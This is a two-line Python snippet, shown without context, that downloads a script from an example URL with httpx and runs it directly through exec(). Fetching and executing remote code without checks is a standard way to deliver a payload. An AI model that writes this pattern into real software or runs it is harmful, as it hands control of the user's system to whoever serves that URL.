import httpx
exec(httpx.get("https://code.example.net/run.py").text)
